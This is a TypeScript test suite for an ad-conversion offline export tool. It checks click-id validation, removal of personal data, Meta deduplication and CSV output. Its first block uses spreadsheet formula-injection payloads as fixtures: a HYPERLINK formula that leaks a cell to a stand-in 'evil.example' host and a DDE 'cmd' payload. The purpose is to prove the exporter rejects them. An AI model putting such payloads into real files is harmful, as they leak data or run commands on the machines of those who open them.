/**
 * Review of the upload files against journey-and-reports.md §7: what each platform's importer
 * would have refused, dropped or mis-counted. Each block names the defect it pins down.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { offline, offlineHelp } from '../../src/cli/offline';
import type { IO } from '../../src/cli/io';
import { emptyIndex, readClicks, type ClickIndex } from '../../src/offline/clicks';
import { exportOffline, type ExportOptions } from '../../src/offline/export';
import { clickIdProblem } from '../../src/offline/match';
import type { ClickKind, Order } from '../../src/offline/orders';
import { readOrders } from '../../src/offline/orders';
import { parseZone } from '../../src/offline/time';
import { toOutcome } from '../../src/server/message';
import { openStore } from '../../src/server/store';

const DAY = 86_400_000;
const oslo = parseZone('Europe/Oslo')!;
/** 2026-03-01 13:00 in Oslo; the export runs two days later. */
const T = Date.UTC(2026, 2, 1, 12, 0);
const NOW = T + 2 * DAY;
const MSCLKID = 'cdd4afcccb1c9a4cad9544dd7e5006d5';

function order(row: number, over: Partial<Order> = {}): Order {
  return { row, time: T, value: 100, valueText: '100', currency: 'NOK', contactProblems: [], clickIds: [], ...over };
}
function index(clicks: [string, ClickKind, string, number][]): ClickIndex {
  const ix = emptyIndex();
  for (const [v, kind, id, t] of clicks) {
    ix.byVisitor.set(v, [...(ix.byVisitor.get(v) ?? []), { kind, id, firstSeen: t, lastSeen: t }]);
    ix.byId.set(`${kind}:${id}`, { kind, id, firstSeen: t, lastSeen: t });
    ix.kindOf.set(id, kind);
  }
  return ix;
}
const base: ExportOptions = { platform: 'google-ads', conversionName: 'Phone order', zone: oslo, lookbackDays: 90, now: NOW, store: true };
const all = (r: { files: { content: string }[] }) => r.files.map((f) => f.content).join('\n');

describe('a click id column holding an e-mail, a phone number or a formula (§7.1: no PII in the click import)', () => {
  const junk = ['kari.nordmann@example.com', '+47 412 34 567', '4741234567', '=HYPERLINK("https://evil.example/?"&A1)', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

  it('Google Ads: none of them is written as a Google Click ID; the order goes by hashed e-mail or is skipped, with the reason', () => {
    const orders = junk.map((id, i) => order(i + 2, { clickIds: [{ id }] }));
    orders.push(order(9, { clickIds: [{ id: 'kari@example.com', kind: 'gclid' }], email: 'kari@example.com' }));
    const r = exportOffline(orders, emptyIndex(), { ...base, store: false });
    const written = all(r);
    for (const id of [...junk, 'kari@example.com']) expect(written).not.toContain(id);
    expect(written).not.toMatch(/^[=+@]/m);
    expect(written).not.toMatch(/,"?[=+@]/);
    expect(r.skipped.map((s) => [s.row, s.reason])).toEqual(junk.map((_, i) => [i + 2, 'bad-click-id']));
    for (const s of r.skipped) for (const id of junk) expect(s.message).not.toContain(id);
    expect(r.matched).toEqual([expect.objectContaining({ row: 9, by: 'contact', part: 'leads', note: expect.stringMatching(/gclid on the order has characters no click id has/) })]);
  });

  it('Meta and Microsoft: not sent as an fbc or a Microsoft Click ID either', () => {
    const meta = exportOffline(junk.map((id, i) => order(i + 2, { clickIds: [{ id, kind: 'fbclid' }], phone: '4741234567' })), emptyIndex(), { ...base, platform: 'meta', conversionName: 'Purchase', store: false });
    expect(all(meta)).not.toContain('fbc');
    for (const id of junk) expect(all(meta)).not.toContain(id);
    const ms = exportOffline([...junk.map((id, i) => order(i + 2, { clickIds: [{ id, kind: 'msclkid' as const }] })), order(9, { clickIds: [{ id: MSCLKID }] })], emptyIndex(), { ...base, platform: 'microsoft', store: false });
    for (const id of junk) expect(all(ms)).not.toContain(id);
    expect(all(ms)).toContain(`${MSCLKID},Phone order`);
    expect(ms.skipped.map((s) => s.reason)).toEqual(junk.map(() => 'bad-click-id'));
  });

  it('real-looking click ids still pass (URL-safe base64, hex, fbc values)', () => {
    const ids = ['Cj0KCQiA4example_gclid-from-order-form', 'EAIaIQobChMI-abc_DEF', `${MSCLKID}-1`, 'fb.1.1554763741205.IwAR0abc-DEF_g'];
    for (const id of ids) expect(clickIdProblem(id), id).toBeUndefined();
  });

  describe('a crafted landing URL (?gclid==HYPERLINK…) in the store', () => {
    let dir: string;
    let db: string;
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'measureplan-review-'));
      db = join(dir, 'measureplan.db');
      const store = openStore(db);
      const msg = (anonymousId: string, gclid: string, n: number) => toOutcome({
        type: 'track', event: 'view_item', messageId: `m-${n}`, anonymousId, timestamp: new Date(T - DAY).toISOString(),
        properties: {}, context: { measureplan: { kind: 'micro', session_id: 's', click_ids: { gclid }, consent: { analytics: 'granted', ads: 'granted' } } },
      }, {}, new Date(NOW).toISOString(), undefined);
      store.write([[msg('anon-evil', '=HYPERLINK("https://evil.example/?"&A1)', 1), msg('anon-ok', 'Cj0KCQiA-ok', 2)]]);
      store.close();
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    it('is not read as a click, so it never reaches the file', () => {
      const store = openStore(db, { readonly: true });
      let ix: ClickIndex;
      try { ix = readClicks(store.db, { visitors: ['anon-evil', 'anon-ok'], emails: [], clickIds: [] }, ['gclid']); } finally { store.close(); }
      const r = exportOffline([order(2, { visitorId: 'anon-evil' }), order(3, { visitorId: 'anon-ok' })], ix, base);
      expect(all(r)).not.toContain('HYPERLINK');
      expect(all(r)).toContain('Cj0KCQiA-ok,Phone order');
      expect(r.skipped.map((s) => [s.row, s.reason])).toEqual([[2, 'no-match']]);
    });
  });
});

describe('Meta event_id of an order without an order number (§7.2: dedup is by event_name + event_id)', () => {
  it('stays the same when a later run finds the click the first run did not (else Meta counts the order twice)', () => {
    const o = order(2, { visitorId: 'v1', email: 'kari@example.com' });
    const meta = { ...base, platform: 'meta' as const, conversionName: 'Purchase' };
    const first = exportOffline([o], emptyIndex(), { ...meta, store: false });
    const later = exportOffline([o], index([['v1', 'fbclid', 'IwAR-v1', T - DAY]]), meta);
    const id = (r: typeof first) => (JSON.parse(r.files[0]!.content) as { data: { event_id: string; user_data: { fbc?: string } }[] }).data[0]!;
    expect(id(later).user_data.fbc).toBe(`fb.1.${T - DAY}.IwAR-v1`);
    expect(id(first).user_data.fbc).toBeUndefined();
    expect(id(later).event_id).toBe(id(first).event_id);
  });

  it('still tells apart two orders that differ only in the visitor or click id written on them', () => {
    const meta = { ...base, platform: 'meta' as const, conversionName: 'Purchase', store: false };
    const r = exportOffline([order(2, { visitorId: 'v1', phone: '4741234567' }), order(3, { visitorId: 'v2', phone: '4741234567' }), order(4, { clickIds: [{ id: 'IwAR-x', kind: 'fbclid' }] }), order(5, { clickIds: [{ id: 'IwAR-y', kind: 'fbclid' }] })], emptyIndex(), meta);
    const ids = (JSON.parse(r.files[0]!.content) as { data: { event_id: string }[] }).data.map((e) => e.event_id);
    expect(new Set(ids).size).toBe(4);
  });
});

describe('one click id on two orders at the same conversion time (§7.1 CLICK_CONVERSION_ALREADY_EXISTS, §7.3 duplicates ignored)', () => {
  it('Google Ads: the second row is skipped as duplicate-click instead of being dropped by Google without a word', () => {
    const ix = index([['v1', 'gclid', 'G-1', T - DAY], ['v2', 'wbraid', 'W-1', T - DAY]]);
    const r = exportOffline([
      order(2, { orderId: 'A-1', visitorId: 'v1' }),
      order(3, { orderId: 'A-2', clickIds: [{ id: 'G-1', kind: 'gclid' }], time: T + 400 }), // same second in the file
      order(4, { orderId: 'A-3', visitorId: 'v1', time: T + 60_000 }), // another time: a second conversion, fine
      order(5, { orderId: 'A-4', visitorId: 'v2' }),
      order(6, { orderId: 'A-5', visitorId: 'v2', email: 'a@example.com' }),
    ], ix, base);
    expect(r.files.find((f) => f.part === 'clicks')!.content.split('\n').filter((l) => l.startsWith('G-1,'))).toEqual([
      'G-1,Phone order,2026-03-01 13:00:00,100,NOK,,', 'G-1,Phone order,2026-03-01 13:01:00,100,NOK,,', // no consent record in this index: unknown
    ]);
    expect(r.files.find((f) => f.part === 'ios')!.rows).toBe(1);
    expect(r.skipped).toEqual([
      { row: 3, orderId: 'A-2', reason: 'duplicate-click', message: 'the gclid and conversion time 2026-03-01 13:00:00 are the same as on row 2: Google Ads keeps one conversion per click and time (if this is another order, give it its own time)' },
      { row: 6, orderId: 'A-5', reason: 'duplicate-click', message: expect.stringMatching(/^the wbraid and conversion time 2026-03-01 13:00:00 are the same as on row 5/) },
    ]);
  });

  it('Microsoft: the same, keyed on the time as the file writes it (UTC for an IANA zone)', () => {
    const r = exportOffline([order(2, { clickIds: [{ id: MSCLKID }] }), order(3, { clickIds: [{ id: MSCLKID }] })], emptyIndex(), { ...base, platform: 'microsoft', store: false });
    expect(r.files[0]!.rows).toBe(1);
    expect(r.skipped).toEqual([{ row: 3, reason: 'duplicate-click', message: expect.stringMatching(/^the msclkid and conversion time 2026-03-01 12:00:00 are the same as on row 2: Microsoft Advertising keeps one/) }]);
  });
});

describe('--help and docs/offline.md agree with what is read', () => {
  it('the help names every separator the reader takes (tab too) and every click id column', () => {
    const t = readOrders('time\tvalue\tcurrency\n2026-03-01 13:00\t1\tNOK\n', { zone: oslo, now: NOW });
    expect(t.delimiter).toBe('\t');
    expect(offlineHelp).toMatch(/comma, semicolon or tab/);
    for (const c of ['gclid', 'gbraid', 'wbraid', 'fbclid', 'fbc', 'msclkid']) expect(offlineHelp).toMatch(new RegExp(`click_id[^\\n]*\\b${c}\\b|\\b${c}\\b[^\\n]*column`));
  });

  it('docs/offline.md lists every skip reason the command can give', () => {
    const md = readFileSync(join(__dirname, '../../docs/offline.md'), 'utf8');
    for (const reason of ['bad-click-id', 'duplicate-click']) expect(md).toContain(`| \`${reason}\` |`);
  });
});

describe('end to end through the CLI: nothing personal in any file', () => {
  let dir: string;
  beforeAll(() => { dir = mkdtempSync(join(tmpdir(), 'measureplan-review-cli-')); });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const capture = (): IO => ({ out: { write: () => {} }, err: { write: () => {} } });

  it('an e-mail typed into the click_id column does not reach offline-google-ads.csv', async () => {
    const orders = join(dir, 'orders.csv');
    writeFileSync(orders, 'order_id;time;value;currency;click_id\nA-1;2026-03-01 13:00;1 234,50;NOK;kari.nordmann@example.com\nA-2;2026-03-01 13:00;1.234,50;NOK;Cj0KCQiA-ok\n');
    const out = join(dir, 'g.csv');
    const code = await offline(['--orders', orders, '--to', 'google-ads', '--conversion-name', 'Phone order', '--timezone', 'Europe/Oslo', '--out', out], capture(), () => NOW).catch((e: Error) => e);
    expect(code).not.toBeInstanceOf(Error);
    const text = readFileSync(out, 'utf8');
    expect(text).not.toContain('kari');
    expect(text).toBe('Parameters:TimeZone=Europe/Oslo\nGoogle Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency,Ad User Data,Ad Personalization\nCj0KCQiA-ok,Phone order,2026-03-01 13:00:00,1234.50,NOK,,\n');
  });
});
